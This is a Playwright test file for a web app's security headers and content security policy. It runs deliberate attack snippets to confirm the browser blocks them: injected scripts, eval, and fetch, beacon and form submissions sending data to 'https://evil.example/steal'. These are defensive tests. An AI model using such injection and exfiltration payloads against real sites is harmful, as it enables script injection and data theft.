import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { inlineIn } from '../../../.build/contentPolicy';
import { expect, heading, test } from '../fixtures';
import { services } from './services';

const dist = new URL('../../../dist-live/', import.meta.url);

/** Texts that occur only in the mocks and the mock panel. */
const markersOfMocks = [
  ...['olivia.carter', 'captain1', 'Austin Spirit', 'No mock answers', 'Multnomah County'],
  ...['mock-panel', 'Mock panel', 'Make it fail', 'cheer.mock', 'Cold start of the backend'],
];

/** The inline scripts and styles of index.html. */
const inline = inlineIn(readFileSync(new URL('index.html', dist), 'utf8'));
const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
const [startScript, startStyles] = [inline.scripts.map(hash).join(' '), inline.styles.map(hash).join(' ')];

const pageHeaders = {
  'cache-control': 'no-cache',
  'content-security-policy': [
    "default-src 'none'",
    "base-uri 'none'",
    "object-src 'none'",
    `script-src 'self' ${startScript}`,
    `style-src 'self' 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=' ${startStyles}`,
    "img-src 'self' data:",
    "font-src 'self'",
    "manifest-src 'self'",
    "worker-src 'self'",
    `connect-src 'self' ${services}`,
    "frame-src 'none'",
    "form-action 'self'",
    "frame-ancestors 'none'",
    "require-trusted-types-for 'script'",
    'trusted-types default',
  ].join('; '),
  'strict-transport-security': 'max-age=63072000',
  'x-content-type-options': 'nosniff',
  'x-frame-options': 'DENY',
  'referrer-policy': 'strict-origin-when-cross-origin',
  'cross-origin-opener-policy': 'same-origin',
  'cross-origin-resource-policy': 'same-origin',
  'cross-origin-embedder-policy': 'credentialless',
  'permissions-policy': 'camera=(), microphone=(), payment=(), usb=(), geolocation=(self)',
};

// tests/hosts/preview.test.ts checks the headers of all other paths.
test('a page is sent with all headers', async ({ request }) => {
  const response = await request.get('/');
  expect(response.status()).toBe(200);
  const headers = response.headers();
  expect(headers).toMatchObject(pageHeaders);
  expect(headers['content-type']).toMatch(/^text\/html/);
  expect(JSON.stringify(headers)).not.toContain('%');
});

test('the live build contains nothing of the mocks and their panel', async () => {
  const mocks = filesIn(new URL('../../../dist-mock/', import.meta.url))
    .map(({ text }) => text)
    .join('\n');
  for (const marker of markersOfMocks) expect(mocks).toContain(marker);
  for (const { name, text } of filesIn(dist)) {
    expect(name).not.toMatch(/mock|panel|hosted-checkout/i);
    for (const marker of markersOfMocks) expect(text, name).not.toContain(marker);
  }
});

const filesIn = (folder: URL) =>
  readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map(({ parentPath, name }) => ({ name, text: readFileSync(join(parentPath, name), 'utf8') }));

test('component styles are applied under the content security policy, and no cookies set', async ({ page }) => {
  await page.goto('/login');
  const login = page.getByRole('button', { name: 'Login', exact: true });
  await expect(login).toHaveCSS('font-family', /Figtree/);
  await expect(login).not.toHaveCSS('background-color', 'rgb(239, 239, 239)');
  await expect(login).not.toHaveCSS('border-radius', '0px');
  expect(await page.context().cookies()).toEqual([]);
  expect(await page.locator('link[href*="/start-"]').count()).toBe(0);
});

test.describe('content security policy', () => {
  // The attacks below violate the policy on purpose, and the browser logs each violation.
  test.use({ allowedErrors: [/Content Security Policy|Trusted/i] });

  const helpers = `
    const add = (name, properties) => {
      const element = Object.assign(document.createElement(name), properties);
      document.body.append(element);
      return element;
    };
    const html = (text) => {
      document.body.insertAdjacentHTML('beforeend', text);
      return document.body.lastElementChild;
    };`;

  test('blocks attacks also in browsers without Trusted Types', async ({ page }) => {
    await withoutTrustedTypes(page);
    await expectBlocked(page, [
      ['script-src-elem', "add('script', { textContent: 'window.__pwned = 1' })"],
      ['script-src-attr', 'html(\'<img src="x:" onclick="window.__pwned = 1">\').click()'],
      ['script-src', "eval('window.__pwned = 1')"],
      ['script-src-elem', "add('script', { src: 'https://evil.example/x.js' })"],
      ['style-src-elem', "html('<style>body { display: none }</style>')"],
      ['connect-src', "fetch('https://evil.example/steal').catch(() => undefined)"],
      ['connect-src', "navigator.sendBeacon('https://evil.example/steal')"],
      ['img-src', "add('img', { src: 'https://evil.example/pixel.png' })"],
      ['frame-src', "add('iframe', { src: 'https://evil.example/' })"],
      ['base-uri', "add('base', { href: 'https://evil.example/' })"],
      ['form-action', "add('form', { action: 'https://evil.example/' }).submit()"],
    ]);
  });

  test('refuses text where the browser expects Trusted Types', async ({ page }) => {
    await expectBlocked(page, [
      ['require-trusted-types-for', "html('<b>bold</b>')"],
      ['require-trusted-types-for', "document.body.innerHTML = '<b>bold</b>'"],
      ['require-trusted-types-for', "add('script', { textContent: 'window.__pwned = 1' })"],
      ['require-trusted-types-for', "add('script', { src: 'https://evil.example/x.js' })"],
      ['require-trusted-types-for', "add('script', { src: 'https://js.stripe.com/v3' })"],
      ['require-trusted-types-for', "add('iframe', { srcdoc: '<b>bold</b>' })"],
      ['require-trusted-types-for', "eval('window.__pwned = 1')"],
      ['trusted-types', "trustedTypes.createPolicy('other', {})"],
      ['trusted-types', "trustedTypes.createPolicy('default', {})"],
    ]);
  });

  test('of another build, which blocks the styles in the page, leaves the app its colors', async ({ page }) => {
    await changePolicy(page, (policy) => policy.replaceAll(/'sha256-[^']+'/g, ''));
    await page.goto('/login');
    await expect(heading(page, 'Login')).toBeVisible();
    await expect(page.getByRole('button', { name: 'Login', exact: true })).toHaveCSS(
      'background-color',
      'rgb(255, 122, 99)',
    );
    await expect(page.locator('body')).toHaveCSS('margin', '0px');
  });

  /** Runs each attack. Checks that the browser blocks it with the given directive, and that the page still works. */
  async function expectBlocked(page: Page, attacks: [directive: string, code: string][]) {
    await page.goto('/login');
    await expect(heading(page, 'Login')).toBeVisible();
    for (const [directive, code] of attacks) {
      expect(await findViolatedDirective(page, `{ ${helpers} ${code} }`), code).toBe(directive);
    }
    expect(await page.evaluate('window.__pwned')).toBeUndefined();
    // A locator would wait for the navigation of the form, which is blocked.
    expect(await page.evaluate('document.body.innerText')).toContain('Find your squad');
  }

  test('another page cannot embed the app in an iframe', async ({ page, baseURL }) => {
    const embeddingPage = `${services}/framing.html`;
    await page.route(embeddingPage, (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/login"></iframe>` }),
    );
    await page.goto(embeddingPage);
    await expect.poll(() => page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/');
  });
});

test.describe('in the service worker', () => {
  const violation = 'Content Security Policy: connect-src https://evil.example/';
  test.use({ serviceWorkers: 'allow', allowedErrors: [/evil\.example/] });

  test('a violation is among the errors that fail a test', async ({ page, context }) => {
    const told = context.waitForEvent('console', (message) => message.text() === violation);
    await page.goto('/login');
    const worker = context.waitForEvent('serviceworker');
    await page.evaluate(() => navigator.serviceWorker.register('/serviceWorker.js'));
    await (await worker).evaluate(() => fetch('https://evil.example/').catch(() => undefined));
    expect((await told).type()).toBe('error');
  });
});

/** Runs the code and returns the directive of the first policy violation. */
async function findViolatedDirective(page: Page, code: string): Promise<string> {
  const violation = page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
      }),
  );
  // Runs the code in a timer, because the browser exempts directly evaluated code from the policy.
  await page.evaluate(`void setTimeout(() => { try { ${code} } catch {} })`);
  return violation;
}

/** Serves the page without the Trusted Types directives, to test the rest of the policy. */
const withoutTrustedTypes = (page: Page) =>
  changePolicy(page, (policy) => policy.replace(/; [a-z-]*trusted-types[^;]*/g, ''));

async function changePolicy(page: Page, change: (policy: string) => string) {
  await page.route('/login', async (route) => {
    const response = await route.fetch();
    const policy = change(response.headers()['content-security-policy'] ?? '');
    await route.fulfill({ response, headers: { ...response.headers(), 'content-security-policy': policy } });
  });
}
